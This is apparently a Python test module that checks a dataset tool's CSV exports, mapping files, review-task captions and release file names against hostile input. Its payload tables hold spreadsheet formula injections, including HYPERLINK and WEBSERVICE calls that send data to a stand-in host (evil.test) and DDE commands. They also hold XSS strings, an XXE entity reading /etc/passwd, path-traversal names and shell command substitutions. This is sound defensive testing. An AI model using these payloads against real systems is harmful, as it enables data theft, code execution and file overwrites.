"""Texts in tables people open, in tasks reviewers answer, and names that become files."""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from pathlib import Path

import polars as pl

from relaionet.annotations.tasks.page import label_config
from relaionet.annotations.tasks.tasks import task_data
from relaionet.flows.pages.evaluation.table_files import format_board, write_tables
from relaionet.manifests.errors import BadInput, Corrupt
from relaionet.manifests.escape import unescape_csv
from relaionet.manifests.labels import read_labels
from relaionet.manifests.release.release import make_release, read_release
from relaionet.manifests.store import csv_bytes
from relaionet.manifests.tables import CLASS_SCORES, DIFFERENCES
from relaionet.pipeline.adoption.class_names import Unclear
from relaionet.pipeline.adoption.mapping import read_mapping, write_template
from tests.attempts.attempt import Attempt, family
from tests.attempts.texts.documents import board_of
from tests.attempts.texts.terminal import TRICKS as HIDDEN
from tests.attempts.texts.terminal import check_text
from tests.unit.manifests.conftest import manifest_rows
from tests.unit.manifests.test_escape import is_formula

FORMULAS = {
    "a link": '=HYPERLINK("http://evil.test/?"&A1,"click")', "a program (DDE)": "=cmd|'/C calc'!A0", "plus": "+1+1",
    "minus": "-2+3+cmd|' /C calc'!A0", "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a web service": '=WEBSERVICE("http://evil.test")',
    "an import of Google's": '=IMPORTXML("http://evil.test","//a")', "an external sheet": "='file:///etc/passwd'#$x.A1",
    "behind a tab": "\t=1+1", "behind a carriage return": "\r=1+1", "behind a line feed": "\n=1+1",
    "behind spaces": "   =1+1",
    "behind a quote": '"=1+1', "behind a byte-order mark": "\ufeff=1+1", "behind zero-width spaces": "\u200b=1+1",
    "behind a no-break space": "\xa0=1+1", "behind an apostrophe": "'=1+1", "full-width equals": "\uff1d1+1",
    "full-width at": "\uff20SUM(1)", "behind a semicolon": "fish;=1+1", "behind a quoted semicolon": 'fish";"=1+1',
    "behind a tab within": "fish\t=1+1", "on its second line": "fish\n=1+1", "on a quoted second line": 'fish\n"=1+1"',
    "of an array": "{=1+1}", "a table's end": '",=1+1,"', "tab alone": "\tfish",
}  # fmt: skip


def check_csv(text: str) -> None:
    """That no spreadsheet computes a cell, whatever it cuts lines at.

    Raises:
        AssertionError: one would.
    """
    for delimiter in ",;\t":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            wrong = [cell for cell in row if is_formula(cell) and not re.match(r"-?\d+(\.\d+)?(e-?\d+)?(,|$)", cell)]
            assert not wrong, f"a cell begins a formula where {delimiter!r} ends cells"


def write_cells(folder: Path, trick: str) -> str:
    """A table of captions as `relaionet search --out` writes it, and a leaderboard."""
    table = pl.DataFrame({"caption": [trick, "fish"], "cosine": [-0.5, 0.5]})
    for text, column in ((csv_bytes(table).decode(), "caption"), (format_board(*board_of(trick), "csv"), "generator")):
        check_csv(text)
        first = next(csv.DictReader(io.StringIO(text, newline="")))
        assert unescape_csv(first[column]) == trick, "the text is another"
    return "a text, read back as it was"


def write_mapping(folder: Path, trick: str) -> str:
    """The mapping file of `relaionet adopt`, with a folder of that name, filled in and read back."""
    name = trick.replace("/", "|").replace("\0", "")
    label = read_labels()[0]
    file = write_template(folder, "set", [Unclear(folder=name, fits=(), near=(label,))], {f"{name}2": "skip"})
    text = file.read_bytes().decode()
    check_csv("\n".join(line for line in text.split("\n")))
    file.write_bytes(re.sub(r",\n\Z", f",{label.wnid}\n", text).encode())
    assert read_mapping(file) == {f"{name}2": "skip", name: label.wnid}, "it is read as another folder"
    return "a text, read back as that folder"


IN_TASKS = {
    **{name: HIDDEN[name] for name in ("clears the screen", "right-to-left override", "zero bytes", "zero-width spaces",
       "300 accents on one letter", "line separator (U+2028)", "letters of tags (U+E0041)")},
    "a script": "<script>alert(1)</script>", "a picture with a handler": "<img src=x onerror=alert(1)>",
    "an address that is fetched": "http://evil.test/x.txt", "a variable of the page": "$image $reference",
    "XML of the page": "<View><Choices/></View>", "ends an attribute": '"/><HyperText value="$caption', "CDATA": "]]>",
    "an entity": "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;", "a million characters": "x" * 1_000_000,
    "ten thousand lines": "a\n" * 10_000, "an answer": "yes\t1", "an expression": "{{ caption }}",
}  # fmt: skip


def ask(folder: Path, caption: str) -> str:
    """A review task with that caption, and the page that shows it."""
    label = read_labels()[0]
    row = {
        "candidate_id": "0" * 64, "round": 1, "position": 0, "proposed_wnid": label.wnid, "runner_up_wnids": [],
        "caption": f"goldfish {caption} swims",
    }  # fmt: skip
    data = task_data(row)
    line = data["caption_line"]
    assert line == check_text(f"{line} swims").removesuffix(" swims")
    assert "\n" not in line
    assert len(line) <= 320
    page = ET.fromstring(label_config(read_labels()[:3]))
    shown = [one for one in page.iter() if one.get("value") == "$caption_line"]
    assert [one.tag for one in shown] == ["Header"], "the caption is shown by what reads more into it"
    assert not any("caption" in (one.get("value") or "") for one in page.iter() if one not in shown)
    assert json.loads(json.dumps(data)) == data
    return "one line of text, at most 300 characters"


NAMES = {
    "the folder above": "../evil", "two above": "../../etc/cron.d/evil", "an absolute path": "/tmp/evil", "dots": "..",
    "a folder in between": "a/b", "backslashes": "..\\evil", "a drive": "C:evil", "a zero byte": "a\0b", "empty": "",
    "an escape code": "a\x1b[2J", "right-to-left override": "a\u202etxt.exe", "a line feed": "a\nb", "a pipe": "|id",
    "a command": "$(id)", "an option": "-rf", "a home": "~root", "a scheme": "file:///etc/passwd",
    "very long": "x" * 5000,
    "hidden": ".bashrc", "a space at the end": "a ", "a surrogate": "a\ud800",
}  # fmt: skip


def name_release(folder: Path, name: str) -> str:
    """A release of that name."""
    try:
        make_release(manifest_rows(2), folder / "out", name=name, notes={})
    except BadInput:
        assert not list(folder.rglob("*")), "something was written"
        return "refused"
    raise AssertionError("it was written")


def name_file(folder: Path, name: str) -> str:
    """A stranger's release that lists a file of that name."""
    (folder / "secret").write_text("secret")
    path = make_release(manifest_rows(2), folder / "out", name="set", notes={})
    info = json.loads((path / "release.json").read_text())
    info["files"][name] = "0" * 64
    (path / "release.json").write_text(json.dumps(info))
    try:
        read_release(path)
    except (BadInput, Corrupt):
        return "refused"
    raise AssertionError("it was read")


def name_tables(folder: Path, name: str) -> str:
    """The tables of an evaluation on a split of that name."""
    board, scores = board_of(name.replace("\ud800", "?"))
    out = folder / "a" / "b" / "c"
    empty = {"class_scores": CLASS_SCORES.empty(), "differences": DIFFERENCES.empty()}
    paths = write_tables(out, board, scores, **empty)
    assert sorted(path for path in folder.rglob("*") if path.is_file()) == sorted(paths)
    assert all(path.parent == out and re.fullmatch(r"[A-Za-z0-9_][A-Za-z0-9._-]*", path.name) for path in paths)
    return "files of plain names in their folder"


ATTEMPTS: list[Attempt] = [
    *family("Spreadsheets: CSV tables", "no formula; the text can be read back", write_cells, FORMULAS),
    *family("Spreadsheets: the mapping file", "no formula; the folder is found again", write_mapping, FORMULAS),
    *family("Label Studio: captions of tasks", "one bounded line of plain text", ask, IN_TASKS),
    *family("Names: a release's", "refused", name_release, NAMES),
    *family("Names: a file of a stranger's release", "refused", name_file, NAMES),
    *family("Names: a split's, in names of tables", "a plain name in the folder", name_tables, NAMES),
]
